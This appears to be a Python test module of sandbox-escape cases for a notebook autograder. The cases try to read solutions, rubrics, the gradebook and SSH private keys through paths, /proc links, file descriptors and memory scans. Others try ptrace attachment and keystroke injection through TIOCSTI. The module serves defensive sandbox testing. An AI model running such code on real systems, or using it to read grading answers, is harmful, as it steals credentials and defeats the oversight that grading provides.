"""Reading what is not the student's: files, processes, memory, terminals."""

from __future__ import annotations

from attacks.cases import Case
from attacks.edits import cell, family
from attacks.escape.attempts import TRY

CASES: list[Case] = []
case = family(CASES, "escape")


@case("solutions, rubrics, the gradebook, records and other work by path")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for base in ("@ROOT@", "@WORK@", "@SECRETS@", os.path.expanduser("~"), os.getcwd()):
    for path in glob.glob(base + "/**", recursive=True, include_hidden=True)[:20_000]:
        name = os.path.basename(path)
        if "@SECRETS@" in path or re.search("gradebook|rubric|solution|submitted|records|id_rsa|autograded", path):
            if os.path.isfile(path) and "site-packages" not in path:
                attempt(path, read, path)
for name in ("solutions", "grader/rubrics", "submitted", "gradebook.db", ".git"):
    for place in ("@ROOT@", "@WORK@"):
        attempt(name, lambda: os.path.exists(f"{place}/{name}"))
for module in ("grader", "grader.rubrics", "nbgrader_config"):
    try:
        __import__(module)
        print("ESCAPED: imported", module)
    except ImportError:
        pass
""",
    )


@case("the same through /proc and inherited descriptors")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
for pid in [*pids(), "self", @PID@, os.getppid()]:
    for way in ("root", "cwd", "task/../root"):
        for path in ("@SECRETS@/.ssh/id_rsa", "@WORK@/gradebook.db", "@ROOT@/grader/rubrics/week01_toy/checks/mean.py"):
            attempt(path, read, f"/proc/{pid}/{way}{path}")
for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/tmp", "/home/student", "/usr")):
        print("ESCAPED: descriptor", name, target)
    attempt(f"through descriptor {name}", os.open, "../../../../@SECRETS@/.ssh/id_rsa", os.O_RDONLY, 0o600)
    for path in ("..", "../..", "@SECRETS@"):
        try:
            inside = os.open(path, os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(name))
        except OSError:
            continue
        if any(secret in os.listdir(inside) for secret in ("gradebook.db", ".ssh", "solutions", "boot")):
            print("ESCAPED: folder by descriptor", name)
attempt("the kernel's memory", read, "/proc/kcore")
""",
    )


@case("environments of all processes, and what memory holds")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
secret = re.compile(b"CANARY-[0-9a-f]{4,}")
def search(path):
    return secret.findall(read(path))
def scan(pid):
    found = []
    for line in open(f"/proc/{pid}/maps"):
        span = re.match("([0-9a-f]+)-([0-9a-f]+) r", line)
        if span and "[v" not in line:
            begin, end = (int(part, 16) for part in span.groups())
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(begin)
                    found += secret.findall(memory.read(end - begin) or b"")
            except (OSError, ValueError, OverflowError):
                pass
    return found
attempt("memory of its own", scan, os.getpid())
for pid in [*pids(), @PID@]:
    for name in ("environ", "cmdline", "maps", "stack", "auxv"):
        attempt(f"{name} of {pid}", search, f"/proc/{pid}/{name}")
for pid in set(pids()) - {os.getpid()}:
    attempt(f"memory of {pid}", scan, pid)
""",
    )


@case("other processes traced and their memory read")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
local, remote = ctypes.create_string_buffer(16), 0x400000
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
mine = {os.getpid()}
for pid in {@PID@, os.getppid() or -5, *range(4, 400)} - mine - set(pids()):
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        attempt(f"trace {pid}", call, "ptrace", request, pid, 0, 0)
    here, there = Span(ctypes.addressof(local), 16), Span(remote, 16)
    attempt(f"read {pid}", call, "process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    attempt(f"open {pid}", os.pidfd_open, pid)
if set(pids()) - mine - {1, 2}:
    print("ESCAPED: other processes are seen:", pids())
""",
    )


@case("a terminal made to type")
def _(notebook):
    return cell(
        notebook,
        TRY
        + """
import fcntl, termios
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/proc/1/fd/0", "/proc/2/fd/0"):
    def push():
        fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b"x")
        return "typed"
    attempt(path, push)
""",
    )
